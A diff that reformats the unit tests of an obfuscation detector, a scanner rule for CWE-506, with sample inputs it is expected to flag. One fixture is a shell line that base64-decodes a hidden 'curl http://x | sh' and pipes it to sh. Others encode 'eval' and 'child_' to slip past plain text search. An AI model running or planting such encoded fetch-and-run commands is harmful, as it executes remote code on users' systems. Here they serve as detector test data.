@@ -7,12 +7,23 @@ describe('obfuscation', () => {
     expect(obfuscation.meta).toMatchObject({ id: 'obfuscation', severity: 'warning', cwe: 'CWE-506' })
   })
   it('finds atob, base64 Buffers, fromCharCode, hex chains and base64 | sh', () => {
-    expect(hitsOf('obfuscation', {
-      'scripts/a.js': "atob('eA==')\nBuffer.from(p, 'base64')\nString.fromCharCode(101, 118, 97, 108)\nconst s = '\\x63\\x68\\x69\\x6c\\x64\\x5f'\n",
-      'scripts/b.sh': "echo 'Y3VybCBodHRwOi8veCB8IHNo' | base64 -d | sh\n",
-    })).toEqual(['warning obfuscation scripts/a.js:1:1', 'warning obfuscation scripts/a.js:2:1', 'warning obfuscation scripts/a.js:3:1', 'warning obfuscation scripts/a.js:4:11', 'warning obfuscation scripts/b.sh:1:1'])
+    expect(
+      hitsOf('obfuscation', {
+        'scripts/a.js':
+          'atob(\'eA==\')\nBuffer.from(p, \'base64\')\nString.fromCharCode(101, 118, 97, 108)\nconst s = \'\\x63\\x68\\x69\\x6c\\x64\\x5f\'\n',
+        'scripts/b.sh': 'echo \'Y3VybCBodHRwOi8veCB8IHNo\' | base64 -d | sh\n',
+      }),
+    ).toEqual([
+      'warning obfuscation scripts/a.js:1:1',
+      'warning obfuscation scripts/a.js:2:1',
+      'warning obfuscation scripts/a.js:3:1',
+      'warning obfuscation scripts/a.js:4:11',
+      'warning obfuscation scripts/b.sh:1:1',
+    ])
   })
   it('ignores encoding and short escapes', () => {
-    expect(hitsOf('obfuscation', { 'scripts/c.js': "Buffer.from('x').toString('base64')\nconst red = '\\x1b[31m'\n" })).toEqual([])
+    expect(
+      hitsOf('obfuscation', { 'scripts/c.js': 'Buffer.from(\'x\').toString(\'base64\')\nconst red = \'\\x1b[31m\'\n' }),
+    ).toEqual([])
   })
 })
